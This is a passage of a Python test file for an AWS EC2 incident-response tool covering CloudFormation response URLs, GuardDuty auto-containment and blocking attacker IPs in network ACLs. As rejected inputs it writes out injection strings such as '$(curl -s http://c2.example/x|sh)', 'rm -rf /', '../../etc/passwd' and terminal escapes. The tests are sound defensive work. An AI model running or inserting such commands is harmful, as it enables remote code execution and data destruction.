            "arn:aws-us-gov:cloudformation:us-gov-west-1:123456789012:stack/incident/4f1c2a60",
            "https://cloudformation-custom-resource-response-usgovwest1.s3-us-gov-west-1.amazonaws.com/k",
            True,
        ),
        # another partition, Region, bucket, scheme, port, or a lookalike host
        (
            "arn:aws-cn:cloudformation:cn-north-1:123456789012:stack/incident/4f1c2a60",
            "https://cloudformation-custom-resource-response-cnnorth1.s3.cn-north-1.amazonaws.com/k",
            False,
        ),
        (
            STACK_ID,
            "https://cloudformation-custom-resource-response-euwest1.s3-eu-west-1.amazonaws.com/k",
            False,
        ),
        (STACK_ID, "https://attacker-bucket.s3.amazonaws.com/k", False),
        (STACK_ID, "https://s3.amazonaws.com/cloudformation-custom-resource-response-useast1/k", False),
        (STACK_ID, "http://cloudformation-custom-resource-response-useast1.s3.amazonaws.com/k", False),
        (STACK_ID, "https://cloudformation-custom-resource-response-useast1.s3.amazonaws.com:8443/k", False),
        (STACK_ID, "https://user@cloudformation-custom-resource-response-useast1.s3.amazonaws.com/k", False),
        (
            STACK_ID,
            "https://cloudformation-custom-resource-response-useast1.s3.amazonaws.com.example/k",
            False,
        ),
        (STACK_ID, "https://x.cloudformation-custom-resource-response-useast1.s3.amazonaws.com/k", False),
        (STACK_ID, "https://127.0.0.1:8080/cloudformation-responses/x", False),
        ("not-an-arn", REAL_RESPONSE_URL, False),
        ("arn:aws-mars:cloudformation:mars-1:123456789012:stack/x/y", REAL_RESPONSE_URL, False),
    ],
)
def test_answers_go_only_to_cloudformations_response_bucket_of_the_stacks_partition_and_region(
    stack_id: str, url: str, allowed: bool
) -> None:
    urls = cloudformation.ResponseUrls.for_stack(stack_id)
    assert (urls is not None and urls.allows(url)) is allowed
    event = cfn_event("Delete", url, []) | {"StackId": stack_id}
    assert (cloudformation.refusal(event, stack_id, urls) is None) is allowed


def test_the_answer_always_fits_cloudformations_limit() -> None:
    request = cloudformation.Request.from_event(
        cfn_event("Create", "https://example.invalid/response", ["i-0123456789abcdef0"])
    )
    huge = cloudformation.Answer("FAILED", "x" * 20_000, {"IsolationGroupIds": "sg-0123456789abcdef0," * 500})
    body = cloudformation.response_body(request, huge, "log-stream")
    assert len(body) <= cloudformation.RESPONSE_LIMIT
    decoded = json.loads(body)
    assert decoded["Status"] == "FAILED" and decoded["Reason"].endswith("[truncated]")
    assert decoded["Reason"].startswith("x" * cloudformation.REASON_FLOOR)
    assert "log-stream" in decoded["Reason"]


def fleet_of(count: int) -> list[str]:
    return [f"i-{n:017x}" for n in range(1, count + 1)]


def test_the_answer_for_200_instances_keeps_the_head_of_its_reason_and_every_key() -> None:
    ids = fleet_of(200)
    request = cloudformation.Request.from_event(cfn_event("Create", REAL_RESPONSE_URL, ids))
    # As a FAILED answer for many instances looked before: a long reason and long Data.
    failures = "; ".join(f"{i}: isolate: InvalidInstanceID.NotFound: {i} does not exist" for i in ids)
    data = {
        "CaseId": CASE,
        "IsolationGroupIds": "sg-0123456789abcdef0",
        "ContainedCount": "0",
        "SnapshotIds": ",".join(f"snap-{n:017x}" for n in range(400)),
    }
    answer = cloudformation.Answer(
        "FAILED", f"200 of 200 instance(s) failed under case {CASE}: {failures}", data
    )
    decoded = json.loads(cloudformation.response_body(request, answer, "log-stream"))
    assert decoded["Reason"].startswith(answer.reason[:1000])  # not " [truncated]" alone
    assert decoded["Data"]["CaseId"] == CASE and decoded["Data"]["SnapshotIds"] == ""

    # The answer the handler now gives: SUCCESS, what failed first, the full snapshot list stored.
    actor = "arn:aws:sts::123456789012:assumed-role/ec2ir-engine/incident-ir-7"
    results = [
        InstanceResult(
            i,
            "isolate",
            ok=True,
            detail="isolated",
            evidence=(
                EvidenceRef("snapshot", f"snap-{2 * n:017x}"),
                EvidenceRef("snapshot", f"snap-{2 * n + 1:017x}"),
            ),
        )
        if n % 5
        else InstanceResult(
            i, "isolate", ok=False, detail=f"{i} does not exist", error_code="InvalidInstanceID.NotFound"
        )
        for n, i in enumerate(ids)
    ]
    key = f"{CASE}/cloudformation/{STACK_NAME}/{request.request_id}/snapshot-ids.json"
    outcome = custom_resource._outcome(CASE, RunReport("isolate", CASE, actor, results), snapshot_key=key)
    body = cloudformation.response_body(request, outcome, "2026/03/14/[$LATEST]0123456789abcdef")
    decoded = json.loads(body)

    assert len(body) <= cloudformation.RESPONSE_LIMIT
    assert decoded["Status"] == "SUCCESS"
    assert decoded["Reason"].startswith(f"40 of 200 instance(s) failed under case {CASE}: {ids[0]}: isolate:")
    assert len(decoded["Reason"]) >= cloudformation.REASON_FLOOR
    assert decoded["Reason"].endswith("[truncated]") and "[$LATEST]0123456789abcdef" in decoded["Reason"]
    assert set(decoded["Data"]) == set(outcome.data)  # every key GetAtt may read is still there
    assert decoded["Data"]["SnapshotIdsKey"] == key
    assert (decoded["Data"]["CaseId"], decoded["Data"]["ContainedCount"], decoded["Data"]["FailedCount"]) == (
        CASE,
        "160",
        "40",
    )
    assert decoded["Data"]["SnapshotIds"] == ""  # gave way to the reason; the bucket has the list


# -- GuardDuty ------------------------------------------------------------------------------------------


def finding(name: str, instance_id: str | None = None) -> dict[str, Any]:
    event: dict[str, Any] = json.loads((FIXTURES / name).read_text())
    if instance_id is not None:
        event["detail"]["resource"]["instanceDetails"]["instanceId"] = instance_id
    return event


def contain(aws: Aws, event: Any, threshold: float | None = 7.0, **kwargs: Any) -> dict[str, Any]:
    return guardduty.handle(
        event,
        engine_factory(aws),
        threshold=threshold,
        own_account="123456789012",
        own_region="us-east-1",
        office_cidr="203.0.113.7",
        **kwargs,
    )


def test_guardduty_contains_only_ec2_findings_at_or_above_the_threshold(
    aws: Aws, fleet: Fleet, incident: dict[str, Any]
) -> None:
    backdoored, probed, bystander = incident["ids"]
    events = {
        "ec2_backdoor_high.json": finding("ec2_backdoor_high.json", backdoored),
        "ec2_portprobe_low.json": finding("ec2_portprobe_low.json", probed),
        "ec2_sample_high.json": finding("ec2_sample_high.json", bystander),
        "s3_exfiltration_high.json": finding("s3_exfiltration_high.json"),
        "credential_exfiltration_high.json": finding("credential_exfiltration_high.json"),
        "malformed_no_resource.json": finding("malformed_no_resource.json"),
    }
    outcomes = {name: contain(aws, event) for name, event in events.items()}

    assert {name: o["outcome"] for name, o in outcomes.items()} == {
        "ec2_backdoor_high.json": "contained",
        "ec2_portprobe_low.json": "ignored",
        "ec2_sample_high.json": "ignored",
        "s3_exfiltration_high.json": "ignored",
        "credential_exfiltration_high.json": "ignored",
        "malformed_no_resource.json": "ignored",
    }
    assert "below the threshold" in outcomes["ec2_portprobe_low.json"]["reason"]
    assert "sample" in outcomes["ec2_sample_high.json"]["reason"]
    assert "S3Bucket resource, not an EC2 instance" in outcomes["s3_exfiltration_high.json"]["reason"]
    assert "AccessKey resource" in outcomes["credential_exfiltration_high.json"]["reason"]

    case = outcomes["ec2_backdoor_high.json"]["case"]
    assert case == "gd-a2c6e4f1b3d5978e0f1a2b3c4d5e6f70" and validate.CASE_ID.match(case)
    iso = isolation_group(fleet, incident["vpc"])
    assert set(fleet.eni_groups([backdoored]).values()) == {(iso,)}
    untouched = fleet.eni_groups([probed, bystander])
    assert untouched == {eni: incident["before"][eni] for eni in untouched}
    hold = StateStore(aws, TABLE).get(backdoored)
    assert hold is not None and hold.case_id == case


def test_guardduty_repeats_are_idempotent_and_notified_once(
    aws: Aws, fleet: Fleet, incident: dict[str, Any]
) -> None:
    sns, sqs = aws.client("sns"), aws.client("sqs")
    topic = sns.create_topic(Name="ec2ir-notifications")["TopicArn"]
    queue = sqs.create_queue(QueueName="ec2ir-inbox")["QueueUrl"]
    queue_arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"][
        "QueueArn"
    ]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue_arn)
    target = incident["ids"][0]
    event = finding("ec2_backdoor_high.json", target)

    first = contain(aws, event, topic_arn=topic)
    again = contain(aws, copy.deepcopy(event), topic_arn=topic)

    assert (first["outcome"], again["outcome"]) == ("contained", "already-held")
    messages = sqs.receive_message(QueueUrl=queue, MaxNumberOfMessages=10, WaitTimeSeconds=0).get(
        "Messages", []
    )
    assert len(messages) == 1
    notification = json.loads(messages[0]["Body"])
    assert notification["Subject"] == f"ec2ir contained {target} (GuardDuty 8)"
    assert "Backdoor:EC2/C&CActivity.B!DNS" in notification["Message"]
    assert f"{target}: ok" in notification["Message"]


def test_guardduty_leaves_an_instance_held_by_another_case_to_that_case(
    aws: Aws, fleet: Fleet, incident: dict[str, Any]
) -> None:
    target = incident["ids"][0]
    engine_factory(aws)().isolate([target], CASE, "203.0.113.7")
    outcome = contain(aws, finding("ec2_backdoor_high.json", target))
    assert outcome["outcome"] == "already-held"
    assert f"already held by case {CASE}" in outcome["reason"]
    hold = StateStore(aws, TABLE).get(target)
    assert hold is not None and hold.case_id == CASE


@pytest.mark.parametrize(
    ("kwargs", "edit", "why"),
    [
        ({"threshold": None}, {}, "auto-containment is off"),
        ({}, {"accountId": "210987654321"}, "in account 210987654321"),
        ({}, {"region": "eu-west-1"}, "in eu-west-1"),
        ({}, {"severity": 6.9}, "severity 6.9 is below the threshold 7"),
        ({}, {"severity": "8"}, "severity is missing or not a number"),
        ({}, {"id": None}, "detail.id is missing"),
    ],
)
def test_guardduty_checks_again_what_the_rule_selected(
    kwargs: dict[str, Any], edit: dict[str, Any], why: str
) -> None:
    event = finding("ec2_backdoor_high.json")
    for key, value in edit.items():
        if value is None:
            del event["detail"][key]
        else:
            event["detail"][key] = value

    def never() -> Engine:
        raise AssertionError("an ignored finding must not reach the engine")

    arguments: dict[str, Any] = {"threshold": 7.0, "own_account": "123456789012", "own_region": "us-east-1"}
    outcome = guardduty.handle(event, never, **(arguments | kwargs))
    assert outcome["outcome"] == "ignored"
    assert why in outcome["reason"]


@pytest.mark.parametrize(
    "event",
    [
        None,
        [],
        "GuardDuty Finding",
        {"source": "aws.guardduty"},
        {"source": "aws.guardduty", "detail-type": "GuardDuty Finding", "detail": []},
        {
            "source": "aws.guardduty",
            "detail-type": "GuardDuty Finding",
            "detail": {
                "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-; rm -rf"}}
            },
        },
    ],
)
def test_guardduty_never_raises_on_garbage(event: Any) -> None:
    def never() -> Engine:
        raise AssertionError("garbage must not reach the engine")

    assert guardduty.handle(event, never, threshold=1.0)["outcome"] == "ignored"


@pytest.mark.parametrize(
    "finding_id", ["a2c6e4f1b3d5978e0f1a2b3c4d5e6f70", "../../etc/passwd", "x" * 200, "", "id with spaces"]
)
def test_case_ids_from_findings_are_always_valid(finding_id: str) -> None:
    case = guardduty.case_for(finding_id)
    assert validate.CASE_ID.match(case), case
    assert guardduty.case_for(finding_id) == case  # the same finding always maps to the same case


def test_guardduty_admits_ssh_from_the_stacks_forensic_group(
    aws: Aws, fleet: Fleet, incident: dict[str, Any]
) -> None:
    # The stack's ForensicSecurityGroupId: a security account's group, here in another VPC.
    outside = fleet.group(fleet.vpc(30), "security-account-forensic")
    target = incident["ids"][0]

    outcome = contain(aws, finding("ec2_backdoor_high.json", target), forensic_group=outside)

    assert outcome["outcome"] == "contained", outcome
    iso = isolation_group(fleet, incident["vpc"])
    assert set(fleet.eni_groups([target]).values()) == {(iso,)}
    # SSH from the security team's group, and nothing else in; nothing out.
    assert fleet.group_rules(iso) == {(False, "tcp/22", outside), (True, "-1/-1", "127.0.0.1/32")}
    forensic = fleet.ec2.describe_security_groups(
        Filters=[{"Name": "tag:ec2ir:role", "Values": ["forensic"]}]
    )["SecurityGroups"]
    assert forensic == []  # no ec2ir forensic group of its own was made


def test_guardduty_reads_the_forensic_group_from_the_functions_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    seen: dict[str, Any] = {}
    monkeypatch.setattr(guardduty, "handle", lambda event, factory, **kwargs: seen.update(kwargs) or {})
    monkeypatch.setenv(guardduty.FORENSIC_GROUP_ENV, "sg-0123456789abcdef0")
    monkeypatch.setenv(guardduty.FORENSIC_GROUP_OWNER_ENV, "210987654321")
    guardduty.handler(finding("ec2_backdoor_high.json"), LambdaRuntimeContext())
    assert (seen["forensic_group"], seen["forensic_group_owner"]) == ("sg-0123456789abcdef0", "210987654321")


def later(stamp: str, minutes: int) -> str:
    """``stamp`` (the state table's ISO time) moved by ``minutes``, written as GuardDuty writes it."""
    moment = datetime.fromisoformat(stamp) + timedelta(minutes=minutes)
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


@pytest.mark.parametrize(
    ("minutes_after_release", "count", "contained_again"),
    [
        (-5, 11, False),  # updated (and counted) before the responder's release: old news
        (30, 4, False),  # updated after the release, but no new occurrence since containment
        (30, 11, True),  # new occurrences after the release: contained again, under a new episode
    ],
)
def test_a_finding_sent_again_after_a_release_contains_again_only_on_new_activity(
    aws: Aws,
    fleet: Fleet,
    incident: dict[str, Any],
    minutes_after_release: int,
    count: int,
    contained_again: bool,
) -> None:
    target = incident["ids"][0]
    topic, read = inbox(aws)
    first = contain(aws, finding("ec2_backdoor_high.json", target), topic_arn=topic)
    assert first["outcome"] == "contained"
    case = first["case"]
    store = StateStore(aws, TABLE)
    contained = store.get(target)
    assert contained is not None
    # A responder looks, finds nothing to keep it for, and releases it with the CLI's engine.
    assert not engine_factory(aws)().release([target], case).failed
    released = store.get(target)
    assert released is not None and released.status is HoldStatus.RELEASED
    read()  # the first containment's notification

    # GuardDuty sends the finding again, updated (a real update's shape; its times set around the
    # release, which the state table recorded on the machine's clock).
    update = finding("ec2_backdoor_high_updated.json", target)
    update["detail"]["updatedAt"] = later(released.released_at, minutes_after_release)
    update["detail"]["service"]["count"] = count
    outcome = contain(aws, update, topic_arn=topic)

    iso = isolation_group(fleet, incident["vpc"])
    now_hold = store.get(target)
    assert now_hold is not None
    if contained_again:
        assert outcome["outcome"] == "contained" and outcome["episode"] == "new", outcome
        assert "count grown from 4 to 11" in outcome["reason"]
        assert now_hold.status is HoldStatus.ISOLATED and now_hold.case_id == case
        assert now_hold.recorded_at != contained.recorded_at  # a new episode, the old one archived
        assert set(fleet.eni_groups([target]).values()) == {(iso,)}
        (notification,) = read()
        assert notification["Subject"] == f"ec2ir contained {target} again (GuardDuty 8)"
        assert "new activity after the release" in notification["Message"]
        assert f"released at {released.released_at}" in notification["Message"]
        # A later release is weighed against this containment's count.
        seen = engine_factory(aws)().store.finding_sighting(case, target)
        assert seen is not None and seen.count == count
    else:
        assert outcome["outcome"] == "ignored", outcome
        assert outcome["reason"].startswith(f"not contained again: case {case} was released at")
        assert now_hold == released
        untouched = fleet.eni_groups([target])
        assert untouched == {eni: incident["before"][eni] for eni in untouched}
        assert read() == []
        seen = engine_factory(aws)().store.finding_sighting(case, target)
        assert seen is not None and seen.count == 4  # the finding's service.count at containment


def test_a_released_finding_without_a_recorded_count_is_not_contained_again(
    aws: Aws, fleet: Fleet, incident: dict[str, Any]
) -> None:
    # Contained before the count was kept (or the record was lost): growth cannot be shown.
    target = incident["ids"][0]
    case = contain(aws, finding("ec2_backdoor_high.json", target))["case"]
    aws.dynamodb().delete_item(
        TableName=TABLE, Key={"pk": {"S": f"guardduty#{case}"}, "sk": {"S": f"instance#{target}"}}
    )
    engine_factory(aws)().release([target], case)
    released = StateStore(aws, TABLE).get(target)
    assert released is not None
    update = finding("ec2_backdoor_high_updated.json", target)
    update["detail"]["updatedAt"] = later(released.released_at, 30)

    outcome = contain(aws, update)

    assert outcome["outcome"] == "ignored"
    assert "count at containment is not on record" in outcome["reason"]
    assert StateStore(aws, TABLE).get(target) == released


# -- GuardDuty: the attacker's addresses denied at the subnet edge (issue 19) ----------------------------

ATTACKER = "185.220.101.45"  # the SSH brute-forcer of ec2_ssh_bruteforce_inbound.json
C2_SERVER = "45.155.205.99"  # the C&C server of ec2_c2_outbound_high.json
ATTACKER_V6 = "2a0b:f4c2:2::45"
SCANNERS = ("91.240.118.172", "194.26.29.113")


def remote_ip(v4: Any = None, v6: Any = None, asn: str = "64500") -> dict[str, Any]:
    """A ``remoteIpDetails`` as GuardDuty writes it."""
    details: dict[str, Any] = {
        "organization": {"asn": asn, "asnOrg": "EXAMPLE-NET", "isp": "Example Net", "org": "Example Net"},
        "country": {"countryName": "Exampleland"},
        "city": {"cityName": "Example City"},
        "geoLocation": {"lat": 0.0, "lon": 0.0},
    }
    if v4 is not None:
        details["ipAddressV4"] = v4
    if v6 is not None:
        details["ipAddressV6"] = v6
    return details


def probed(instance_id: str | None = None, *addresses: str) -> dict[str, Any]:
    """Recon:EC2/PortProbeUnprotectedPort, its fixture's probers replaced by ``addresses``."""
    event = finding("ec2_portprobe_low.json", instance_id)
    event["detail"]["service"]["action"]["portProbeAction"]["portProbeDetails"] = [
        {"localPortDetails": {"port": port, "portName": "Unknown"}, "remoteIpDetails": remote_ip(address)}
        for port, address in zip((22, 3389, 5432), addresses, strict=False)
    ]
    return event


def over_ipv6(instance_id: str | None = None) -> dict[str, Any]:
    """The SSH brute force, over IPv6: GuardDuty then names the attacker in ``ipAddressV6``."""
    event = finding("ec2_ssh_bruteforce_inbound.json", instance_id)
    event["detail"]["service"]["action"]["networkConnectionAction"]["remoteIpDetails"] = remote_ip(
        v6=ATTACKER_V6
    )
    return event


# -- extraction alone (no emulator) --


def test_remote_addresses_come_from_every_place_a_finding_names_one() -> None:
    event = finding("ec2_c2_outbound_high.json")
    detail = event["detail"]
    detail["service"]["action"] |= {
        "awsApiCallAction": {"api": "DescribeInstances", "remoteIpDetails": remote_ip("203.0.114.9")},
        "kubernetesApiCallAction": {
            "remoteIpDetails": remote_ip(v6="2001:4860:4860::8888"),
            "sourceIps": ["9.9.9.9"],  # the caller and every proxy between: never taken
        },
        "rdsLoginAttemptAction": {"remoteIpDetails": remote_ip("8.8.4.4")},
        "portProbeAction": {
            "portProbeDetails": [
                {"remoteIpDetails": remote_ip(SCANNERS[0])},
                {"remoteIpDetails": remote_ip(C2_SERVER)},  # named twice: blocked once
                {"localIpDetails": {"ipAddressV4": "1.1.1.1"}, "remoteIpDetails": remote_ip(v6=ATTACKER_V6)},
            ]
        },
    }
    detail["service"]["action"]["networkConnectionAction"]["remoteIpDetails"]["ipAddressV6"] = (
        "2606:4700::1111"
    )
    detail["service"]["action"]["networkConnectionAction"]["localIpDetails"] = {"ipAddressV4": "1.0.0.1"}
    detail["service"]["detection"] = {"sequence": {"endpoints": [{"ip": "8.8.8.8"}]}}  # never taken

    expected = [
        C2_SERVER,
        "2606:4700::1111",
        "203.0.114.9",
        "2001:4860:4860::8888",
        "8.8.4.4",
        SCANNERS[0],
        ATTACKER_V6,
    ]
    assert remote_addresses(detail) == expected
    assert remote_addresses(event) == expected  # the EventBridge event itself

    def pascal(node: Any) -> Any:  # boto3's GetFindings shape
        if isinstance(node, dict):
            return {key[:1].upper() + key[1:]: pascal(value) for key, value in node.items()}
        return [pascal(item) for item in node] if isinstance(node, list) else node

    assert remote_addresses(pascal(detail)) == expected
    found = finding_addresses(detail)
    assert found.cidrs[:2] == (f"{C2_SERVER}/32", "2606:4700::1111/128")
    assert found.addresses[0].where == "networkConnectionAction (OUTBOUND)"
    assert found.addresses[0].organization == "AS64511 EXAMPLE-BULLETPROOF, Example Bulletproof Hosting"
    assert found.notes == ()


@pytest.mark.parametrize(
    ("field", "value", "why"),
    [
        ("ipAddressV4", "$(curl -s http://c2.example/x|sh)", "not an IP address"),
        ("ipAddressV4", "185.220.101.45; rm -rf /", "not an IP address"),
        ("ipAddressV4", "1" * 5000, "too long to be an IP address"),
        ("ipAddressV4", ["185.220.101.45"], "not a string"),
        ("ipAddressV4", {"ip": "185.220.101.45"}, "not a string"),
        ("ipAddressV4", 3118229805, "not a string"),  # 185.220.101.45 as an integer
        ("ipAddressV4", True, "not a string"),
        ("ipAddressV4", " 185.220.101.45", "not an IP address"),
        ("ipAddressV4", "185.220.101.045", "not an IP address"),  # leading zeros: octal to some
        ("ipAddressV4", "185.220.101.45/32", "not an IP address"),
        ("ipAddressV4", "0.0.0.0/0", "not an IP address"),
        ("ipAddressV4", "\x1b]0;pwned\x07185.220.101.45", "not an IP address"),
        ("ipAddressV4", "10.0.1.30", "private"),
        ("ipAddressV4", "127.0.0.1", "loopback"),
        ("ipAddressV4", "169.254.169.254", "link-local"),  # IMDS
        ("ipAddressV4", "224.0.0.251", "multicast"),
        ("ipAddressV4", "0.0.0.0", "unspecified"),
        ("ipAddressV4", "240.0.0.1", "reserved"),
        ("ipAddressV4", "255.255.255.255", "reserved"),
        ("ipAddressV4", "100.64.0.10", "not a global address"),  # carrier-grade NAT
        ("ipAddressV4", "192.0.2.77", "not a global address"),  # documentation
        ("ipAddressV4", ATTACKER_V6, "an IPv6 address in the IPv4 field"),
        ("ipAddressV6", ATTACKER, "an IPv4 address in the IPv6 field"),
        ("ipAddressV6", "2a0b:f4c2:2::45%eth0", "scoped"),
        ("ipAddressV6", "::1", "loopback"),
        ("ipAddressV6", "fd00:ec2::254", "private"),  # the IPv6 IMDS
        ("ipAddressV6", "::ffff:185.220.101.45", "reserved"),  # IPv4-mapped
        ("ipAddressV6", "2001:db8::1", "not a global address"),
        ("ipAddressV6", "ff02::1", "multicast"),
        ("ipAddressV4", "3.91.12.30", "the instance's own address"),  # its public IP, by the finding
    ],
)
def test_remote_addresses_leave_out_everything_but_a_single_global_address(
    field: str, value: Any, why: str
) -> None:
    event = finding("ec2_ssh_bruteforce_inbound.json")
    event["detail"]["service"]["action"]["networkConnectionAction"]["remoteIpDetails"] = {field: value}

    found = finding_addresses(event)

    assert found.addresses == ()
    (note,) = found.notes
    assert note.startswith("left out service.action.networkConnectionAction.remoteIpDetails.")
    assert why in note
    assert note.isprintable() and len(note) < 300, note


@pytest.mark.parametrize(
    "action",
    [
        None,
        [],
        "NETWORK_CONNECTION",
        {"networkConnectionAction": []},
        {"networkConnectionAction": {"remoteIpDetails": "185.220.101.45"}},
        {"portProbeAction": {"portProbeDetails": {"remoteIpDetails": remote_ip(ATTACKER)}}},
        {"portProbeAction": {"portProbeDetails": [None, 7, "x", {"remoteIpDetails": None}]}},
    ],
)
def test_remote_addresses_of_a_malformed_action_are_none(action: Any) -> None:
    event = finding("ec2_c2_outbound_high.json")
    event["detail"]["service"]["action"] = action
    found = finding_addresses(event)
    assert found.addresses == ()
    assert all(note.isprintable() for note in found.notes)
    assert guardduty.parse_finding(event).remote == found


def test_remote_addresses_are_deduplicated_and_capped() -> None:
    many = [f"91.240.{n // 200}.{n % 200 + 1}" for n in range(30)]
    event = probed(None)
    event["detail"]["service"]["action"]["portProbeAction"]["portProbeDetails"] = [
        {"remoteIpDetails": remote_ip(address)} for address in [many[0], *many, many[1]]
    ]
    found = finding_addresses(event)
    assert remote_addresses(event) == many[: finding_addresses_module.MAX_ADDRESSES]
    assert found.notes == (
        f"20 more remote address(es) left out: at most {len(found.addresses)} are blocked a finding",
    )


@pytest.mark.parametrize(
    ("raw", "threshold"),
    [(None, None), ("", None), ("  ", None), ("7", 7.0), ("7.5", 7.5), ("10", 10.0), ("1", 1.0)],
)
def test_the_block_severity_is_read_from_the_environment(raw: str | None, threshold: float | None) -> None:
    assert guardduty.block_setting_from(raw) == guardduty.BlockSetting(threshold)


@pytest.mark.parametrize("raw", ["high", "0", "11", "7.55", "-7", "nan", "inf", "7,5", "1e1", "$(id)\x1b[2J"])
def test_a_bad_block_severity_blocks_nothing_and_says_so(raw: str, caplog: pytest.LogCaptureFixture) -> None:
    guardduty.block_setting_from.cache_clear()
    with caplog.at_level("ERROR", logger="ec2ir.handlers.guardduty"):
        setting = guardduty.block_setting_from(raw)
        assert guardduty.block_setting_from(raw) is setting  # read once per execution environment
    assert setting.threshold is None
    assert "is not a GuardDuty severity" in setting.problem and setting.problem.isprintable()
    assert [r.getMessage() for r in caplog.records] == [setting.problem]  # one log line
    c2 = guardduty.parse_finding(finding("ec2_c2_outbound_high.json"))
    assert setting.applies(c2) == (False, setting.problem)
    said = guardduty.block_lines(c2, setting, requested=False, blocks=None, notes=[])
    assert said[:2] == [
        f"Remote addresses named by the finding, not blocked because {setting.problem}:",
        f"  {C2_SERVER}/32: networkConnectionAction (OUTBOUND), AS64511 EXAMPLE-BULLETPROOF, "
        "Example Bulletproof Hosting",
    ]


def test_guardduty_reads_the_block_severity_from_the_functions_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    seen: dict[str, Any] = {}
    monkeypatch.setattr(guardduty, "handle", lambda event, factory, **kwargs: seen.update(kwargs) or {})
    monkeypatch.setenv(guardduty.BLOCK_SEVERITY_ENV, "7")
    guardduty.handler(finding("ec2_c2_outbound_high.json"), LambdaRuntimeContext())
    assert seen["block"] == guardduty.BlockSetting(7.0)
    monkeypatch.delenv(guardduty.BLOCK_SEVERITY_ENV)
    guardduty.handler(finding("ec2_c2_outbound_high.json"), LambdaRuntimeContext())
    assert seen["block"] == guardduty.BLOCK_OFF


# -- through the handler, on the emulator --


@pytest.fixture
def suspect(fleet: Fleet) -> dict[str, Any]:
    """One instance in one VPC, and its subnet's network ACL as it was."""
    vpc = fleet.vpc(11)
    instance = fleet.instance(vpc, [fleet.group(vpc, "web")])
    subnet = fleet.subnets[vpc]
    return {"vpc": vpc, "instance": instance, "subnet": subnet, "before": acl_entries(fleet, subnet)}


def acl_entries(fleet: Fleet, subnet: str) -> list[dict[str, Any]]:
    """The entries of the network ACL ``subnet`` is associated with."""
    (acl,) = fleet.ec2.describe_network_acls(Filters=[{"Name": "association.subnet-id", "Values": [subnet]}])[
        "NetworkAcls"
    ]
    return list(acl["Entries"])


def denied(fleet: Fleet, subnet: str) -> set[tuple[bool, str]]:
    """(egress, CIDR) of every deny entry that takes effect: numbered before any allow entry of its
    direction (the ACL's own 32767 "*" rules are not counted)."""
    entries = acl_entries(fleet, subnet)
    first_allow = {
        egress: min(
            [e["RuleNumber"] for e in entries if e["Egress"] is egress and e["RuleAction"] == "allow"]
            or [32767]
        )
        for egress in (False, True)
    }
    return {
        (e["Egress"], e.get("CidrBlock") or e.get("Ipv6CidrBlock", ""))
        for e in entries
        if e["RuleAction"] == "deny" and e["RuleNumber"] < first_allow[e["Egress"]] and e["Protocol"] == "-1"
    }


@pytest.mark.parametrize(
    ("make", "blocked", "left_out"),
    [
        (lambda i: finding("ec2_ssh_bruteforce_inbound.json", i), [f"{ATTACKER}/32"], []),
        (lambda i: finding("ec2_c2_outbound_high.json", i), [f"{C2_SERVER}/32"], []),
        (
            lambda i: probed(i, SCANNERS[0], "10.11.1.99", SCANNERS[1]),
            [f"{SCANNERS[0]}/32", f"{SCANNERS[1]}/32"],
            ['portProbeDetails[1].remoteIpDetails.ipAddressV4 "10.11.1.99": not a global address (private)'],
        ),
        (over_ipv6, [f"{ATTACKER_V6}/128"], []),
    ],
    ids=["ssh-brute-force-inbound", "c2-outbound", "port-probe-list", "ssh-brute-force-ipv6"],
)
def test_guardduty_denies_the_findings_remote_addresses_both_ways_at_the_subnet_edge(
    aws: Aws,
    fleet: Fleet,
    suspect: dict[str, Any],
    make: Callable[[str], dict[str, Any]],
    blocked: list[str],
    left_out: list[str],
) -> None:
    # Waits on the engine's network ACL step (ec2ir.containment.nacl): the handler's side is the outcome's
    # block_ips and the notification; the entries are the engine's.
    topic, read = inbox(aws)
    event = make(suspect["instance"])
    outcome = contain(aws, event, threshold=2.0, topic_arn=topic, block=guardduty.BlockSetting(2.0))

    assert outcome["outcome"] == "contained", outcome
    assert outcome["block_ips"] == blocked
    (notification,) = read()
    message = notification["Message"]
    assert "Remote addresses (BlockRemoteIpSeverity 2), denied both ways in the network ACLs" in message
    for note in left_out:
        assert f"left out service.action.portProbeAction.{note}" in message
    assert all(line.isprintable() for line in message.splitlines())
    # What the issue asks: each address denied, in and out, in the instance's subnet's ACL.
    assert denied(fleet, suspect["subnet"]) == {
        (egress, cidr) for cidr in blocked for egress in (False, True)
    }
    for cidr in blocked:
        assert f"  blocked {cidr}: " in message
    # The case's release takes them out again, exactly.
    assert not engine_factory(aws)().release([suspect["instance"]], outcome["case"]).failed
    assert acl_entries(fleet, suspect["subnet"]) == suspect["before"]


@pytest.mark.parametrize(
    ("setting", "why"),
    [
        ("9", "not blocked because severity 8 is below BlockRemoteIpSeverity 9:"),
        ("", "not blocked because BlockRemoteIpSeverity is empty (blocking is off):"),
    ],
    ids=["below-the-block-severity", "off"],  # a bad setting is off too, with its problem as the why
)
def test_guardduty_blocks_nothing_below_the_block_severity_or_when_off(
    aws: Aws, fleet: Fleet, suspect: dict[str, Any], setting: str, why: str
) -> None:
    topic, read = inbox(aws)
    block = guardduty.block_setting_from(setting)  # as the function reads its environment
    outcome = contain(
        aws, finding("ec2_c2_outbound_high.json", suspect["instance"]), topic_arn=topic, block=block
    )

    assert outcome["outcome"] == "contained", outcome  # containment is never held up
    assert "block_ips" not in outcome
    assert acl_entries(fleet, suspect["subnet"]) == suspect["before"]
    (notification,) = read()
    assert why in notification["Message"]
    assert f"  {C2_SERVER}/32: networkConnectionAction (OUTBOUND), AS64511" in notification["Message"]


def test_guardduty_never_blocks_garbage_from_a_forged_finding(
    aws: Aws, fleet: Fleet, suspect: dict[str, Any]
) -> None:
    event = finding("ec2_c2_outbound_high.json", suspect["instance"])
    action = event["detail"]["service"]["action"]
    action["networkConnectionAction"]["remoteIpDetails"]["ipAddressV4"] = "$(curl -s c2.example|sh)\x1b[2J"
    action["portProbeAction"] = {
        "portProbeDetails": [
            {"remoteIpDetails": remote_ip("9" * 100_000)},
            {"remoteIpDetails": remote_ip(["185.220.101.45", "0.0.0.0/0"])},
            {"remoteIpDetails": remote_ip(v6="::/0")},
            {"remoteIpDetails": remote_ip("10.11.1.1")},  # the VPC's own
        ]
    }
    topic, read = inbox(aws)

